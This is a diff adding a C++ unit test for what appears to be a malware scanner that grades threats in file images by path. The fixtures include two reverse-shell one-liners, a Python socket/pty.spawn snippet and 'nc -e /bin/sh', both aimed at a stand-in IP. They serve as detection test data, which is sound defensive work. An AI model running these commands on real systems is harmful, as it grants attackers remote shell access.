@@ -172,6 +172,17 @@ TEST(Assess, DocumentationWeighsLessUnlessItStarts) {
   EXPECT_EQ(image.assess().threats.at(0).level, ThreatLevel::malicious);
 }
 
+TEST(Assess, DocumentationIsThatBelowAnyPrefix) {
+  const std::string text = "import socket,pty\ns=socket.socket()\ns.connect(('192.0.2.1',1))\npty.spawn('sh')\n";
+  const auto level = [&](const std::string& path) {
+    ImageBuilder image;
+    image.file(path, text);
+    return image.assess().threats.at(0).level;
+  };
+  EXPECT_EQ(level("opt/x/share/man/man1/x.1"), ThreatLevel::suspicious);
+  EXPECT_EQ(level("opt/x/myshare/man/man1/x.1"), ThreatLevel::malicious);
+}
+
 TEST(Assess, PackagedFileWeighsLess) {
   ImageBuilder image;
   image.script("usr/bin/tool", "nc -e /bin/sh 192.0.2.1 4444\n");
